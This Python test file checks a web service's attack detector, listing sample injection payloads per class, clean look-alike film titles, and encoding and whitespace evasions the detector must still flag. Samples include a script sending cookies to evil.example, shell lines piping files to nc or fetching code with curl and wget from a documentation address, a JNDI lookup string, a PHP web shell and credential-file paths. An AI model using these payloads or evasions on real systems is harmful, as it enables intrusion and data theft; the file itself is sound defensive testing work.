"""What is an attack is told with its class, however it is spelled; what only looks like one is clean."""

from __future__ import annotations

import html
import re
from urllib.parse import quote

import pytest
import re2
from hypothesis import given, settings
from hypothesis import strategies as st

from services.common.attacks import detector
from services.common.attacks.detector import Kind, inspect, patterns
from services.common.attacks.patterns import CLASSES
from services.common.attacks.views import views

# One or more for each class, written for these tests; none is from a corpus.
ATTACKS = {
    "sqli": [
        "x' OR 'a'='a",
        "5 AND 7>3 --",
        "1; DROP TABLE viewers --",
        "-1 UNION ALL SELECT card, 2 FROM payments",
        "nobody') OR EXISTS(SELECT 1 FROM users) #",
        "1 AND SLEEP(9)",
        "'; WAITFOR DELAY '0:0:9' --",
        "1 AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a'",
        "{\"$where\": \"this.plan == 'vip'\"}",
    ],
    "xss": [
        "<script>fetch('//evil.example/'+document.cookie)</script>",
        "<img src=x onerror=alert(7)>",
        "\" autofocus onfocus=alert(7) x=\"",
        "<svg/onload=confirm`7`>",
        "javascript:alert(document.domain)",
        "<iframe srcdoc='<p>x</p>'>",
    ],
    "traversal": [
        "../../../../etc/passwd",
        "..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "/var/www/../../etc/shadow",
        "/proc/self/environ",
    ],
    "command": [
        "; cat /etc/hostname | nc 198.51.100.7 9",
        "$(curl -s http://198.51.100.7/x)",
        "`wget http://198.51.100.7/x`",
        "a | whoami",
        "() { :; }; /bin/bash -c 'id'",
    ],
    "template": ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}", "{% import os %}"],
    "ldap": ["*)(uid=*))(|(uid=*", "admin)(&(password=*))", "*)(|(objectClass=*)"],
    "log": ["bob\r\n2026-11-25 12:00:00 INFO login of admin succeeded", "x%0d%0aSet-Cookie: admin=1", "\x1b[2J\x1b[1;1H"],
    "code": ["<?php system($_GET['c']); ?>", "${jndi:ldap://198.51.100.7/a}", "__proto__[admin]=1",
             'O:8:"stdClass":1:{s:1:"a";i:1;}'],
    "xxe": ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'],
    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/"],
}  # fmt: skip

CLEAN = [
    "",
    "The Good, the Bad and the Ugly (1966)",
    "Union Station: select stories (2 or 3 of them)",
    "Sleep (1963)",
    "Count (2005)",
    "Left Behind: Right (2014)",
    "D'Artagnan's Daughter; or, The Return",
    "O'Brien-Smith",
    "Rock 'n' Roll High School",
    "drop me a line; update your table booking",
    "select a title from the list",
    "true or false",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) Version/7.0 TV Safari/537.36",
    "x < y and y > z in the scripted series",
    "https://cdn.example.net/v1/live/news/master.m3u8?token=abc123&exp=1764000000",
    "Fehler: Verbindung unterbrochen (Code 5003)",
    "5 > 3",
    "wait... what?",
    "100 % Wolf",
    "C# and F# for beginners",
    "mother! / father?",
    "用户登录失败",
    "Amélie — Le Fabuleux Destin d'Amélie Poulain",
]


@pytest.mark.parametrize(
    ("attack", "text"), [(name, text) for name, texts in ATTACKS.items() for text in texts]
)
def test_an_attack_is_told_with_its_class(attack: str, text: str) -> None:
    finding = inspect(text)
    assert finding is not None
    assert finding.attack == attack
    assert finding.patterns


@pytest.mark.parametrize("text", CLEAN)
@pytest.mark.parametrize("kind", list(Kind))
def test_what_only_looks_like_one_is_clean(text: str, kind: Kind) -> None:
    assert inspect(text, kind) is None


def test_every_class_of_the_table_has_an_attack() -> None:
    assert set(ATTACKS) == set(CLASSES)


@pytest.mark.parametrize("text", ["ls -la", "cat /tmp/x", "/.git/config", "/.claude/settings"])
def test_what_would_be_prose_is_an_attack_in_an_identifier(text: str) -> None:
    assert inspect(text, Kind.IDENTIFIER) is not None


def test_ids_of_patterns_are_unique_and_say_their_class() -> None:
    ids = [pattern.id for pattern in patterns()]
    assert len(set(ids)) == len(ids)
    for pattern in patterns():
        assert pattern.attack in CLASSES
        assert pattern.about
        assert re.fullmatch(rf"{pattern.attack}-\d{{3}}|crs-\d{{6}}", pattern.id)
        re2.compile(pattern.regex)


# Evasions: each is a function of an attack that leaves it an attack for some program behind.
_SQL = ["1' OR '1'='1", "1 UNION SELECT null,version()", "1; DROP TABLE users --", "1' AND SLEEP(5) -- x"]
_MARKUP = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"]
_PATHS = ["../../../etc/passwd", "..\\..\\windows\\win.ini"]


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _overlong(text: str) -> str:
    return "".join(f"%{0xC0 | ord(c) >> 6:02x}%{0x80 | ord(c) & 0x3F:02x}" for c in text)


_ENCODINGS = {
    "plain": lambda t: t,
    "url": lambda t: quote(t, safe=""),
    "url of everything": lambda t: "".join(f"%{ord(c):02x}" for c in t),
    "%u": lambda t: "".join(f"%u{ord(c):04x}" for c in t),
    "\\u": lambda t: "".join(f"\\u{ord(c):04x}" for c in t),
    "\\x": lambda t: "".join(f"\\x{ord(c):02x}" for c in t),
    "html": lambda t: html.escape(t),
    "html decimal": lambda t: "".join(f"&#{ord(c)};" for c in t),
    "html hexadecimal": lambda t: "".join(f"&#x{ord(c):x};" for c in t),
    "full width": _fullwidth,
    "overlong": _overlong,
    "zero width": lambda t: "\u200b".join(t),
    "nul": lambda t: t.replace(" ", "%00 "),
}

_OF_ASCII = {"overlong", "\\x", "url of everything"}


@settings(max_examples=250, deadline=None)
@given(
    st.sampled_from(_SQL + _MARKUP + _PATHS),
    st.lists(st.sampled_from(sorted(_ENCODINGS)), min_size=1, max_size=2),
    st.randoms(use_true_random=False),
)
def test_encodings_in_layers_hide_nothing(attack: str, layers: list[str], random) -> None:
    text = "".join(random.choice((c.upper(), c.lower())) for c in attack)
    for layer in layers:
        if layer in _OF_ASCII and not text.isascii():
            continue
        text = _ENCODINGS[layer](text)
    assert inspect(text) is not None, text


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(_SQL),
    st.sampled_from(["/**/", "/*x*/", "%09", "%0a", "%0b", "%a0", "\t", "  ", "%20", "--x%0a", "#x%0a", "+"]),
    st.booleans(),
)
def test_what_stands_for_a_blank_hides_nothing(attack: str, blank: str, also_inside: bool) -> None:
    text = attack.replace(" ", blank)
    if also_inside:
        text = text.replace("UNION", "UN/**/ION").replace("OR", "O/**/R").replace("SLEEP", "SL/**/EEP")
    assert inspect(text) is not None, text


@settings(max_examples=100, deadline=None)
@given(
    st.integers(1, 8),
    st.sampled_from(
        [
            "../",
            "..\\",
            "....//",
            "..;/",
            ".././",
            "..%2f",
            "%2e%2e/",
            "..%5c",
            "..%c0%af",
            "%252e%252e%252f",
            "..%u2215",
            "0x2e0x2e0x2f",
            "..//",
            "/../",
        ]
    ),
    st.sampled_from(["etc/passwd", "windows/win.ini", "app/config.yml", ""]),
)
def test_steps_up_are_seen_in_every_spelling(steps: int, step: str, target: str) -> None:
    text = step * steps + target
    assert inspect(text, Kind.PATH) is not None, text


@given(st.text(max_size=300), st.sampled_from(list(Kind)))
def test_any_text_gets_an_answer(text: str, kind: Kind) -> None:
    finding = inspect(text, kind)
    assert finding is None or finding.attack in CLASSES


def test_an_attack_far_behind_is_found() -> None:
    assert inspect("a " * 40_000 + "' or 1=1 --") is not None
    assert inspect("a " * 40_000) is None


@pytest.mark.parametrize(
    "hostile",
    [
        "/*" * 8_000,
        "%25" * 5_000,
        "&amp;" * 3_000,
        "'" + " " * 16_000,
        "\\u005c" * 2_700,
        "{a," * 5_000,
        "(" * 16_000,
        "ﷺ" * 16_000,
    ],
)
def test_hostile_texts_end(hostile: str) -> None:
    """Each is quadratic for a careless decoder; the test's own time limit is the measure."""
    for _ in range(5):
        inspect(hostile, Kind.PATH)


def found_by(text: str, *, strict: bool, long: bool) -> set[str]:
    return {
        members[index].id
        for view in views(text)
        for automaton, members in detector._automata(strict, long)
        for index in automaton.Match(view.encode("utf-8", "replace")) or ()
    }


@pytest.mark.parametrize("strict", [False, True])
def test_small_automata_hold_every_pattern_once(strict: bool) -> None:
    groups = [members for _, members in detector._automata(strict, True)]
    assert max(map(len, groups)) <= detector.PATTERNS_FOR_LONG
    ids = [pattern.id for group in groups for pattern in group]
    whole = [pattern.id for _, members in detector._automata(strict, False) for pattern in members]
    assert sorted(ids) == sorted(whole)


@pytest.mark.parametrize("strict", [False, True])
def test_small_automata_find_what_the_large_ones_find(strict: bool) -> None:
    for texts in ATTACKS.values():
        for text in texts:
            for one in (text, f"{'a story of two towns ' * 40}{text}", quote(text) * 8):
                assert found_by(one, strict=strict, long=True) == found_by(one, strict=strict, long=False)


@settings(max_examples=60, deadline=None)
@given(st.text(alphabet="<>='\"()/*;:-_ %{}$&|\\.0xselctuniorandscpimg\n", max_size=300), st.booleans())
def test_small_automata_find_the_same_in_any_text(text: str, strict: bool) -> None:
    assert found_by(text, strict=strict, long=True) == found_by(text, strict=strict, long=False)
